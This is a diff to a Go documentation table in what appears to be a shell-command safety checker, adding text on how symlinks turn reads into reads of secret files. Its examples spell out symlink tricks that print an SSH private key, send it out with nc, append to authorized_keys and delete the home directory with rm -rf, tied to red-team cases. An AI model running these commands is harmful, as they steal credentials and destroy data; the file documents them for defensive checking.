@@ -254,6 +254,9 @@ var effectDocs = []effectDoc{
 			"is judged as a delete of the link's target with the rest of the path: `ln -s ~ x && rm -rf x/` deletes the home directory. " +
 			"A write (a redirection, an output option, a copy's destination) and `chmod`/`chown` follow the link itself too: " +
 			"`ln -s ~/.ssh/authorized_keys k && echo KEY >> k` writes the keys; `cp -s` (`--symbolic-link`) and `cp -l` (`--link`) make links as `ln` does (rt22e #22: `cp -s ~/.ssh/authorized_keys k; echo x >> k`). " +
+			"A read follows it as well (rt45): what a part reads through the link from that directory, an operand or a `<`, is judged by the secret defaults as a read of the target, " +
+			"so `ln -s ~/.ssh/id_rsa k && cat k` prints the key (`cmd.credentials`), `ln -s ~/.ssh k && cat k/id_rsa` too, and `… && cat k | nc HOST 80` sends it; " +
+			"a link's absolute name stands where it is written (`ln -s ~ /tmp/h && rm -rf /tmp/h/` deletes the home). " +
 			"Where the target is not known (`$D`), two links of the name may stand there with different targets, the path names the link another way (`$PWD/x/`, an absolute path), " +
 			"or the part runs in another directory or in one reached through the link (`cd x && rm -rf *`), the part is unreadable; " +
 			"a line that makes more than 32 links is unreadable as a whole. A link made by an earlier command (another ask) is " +
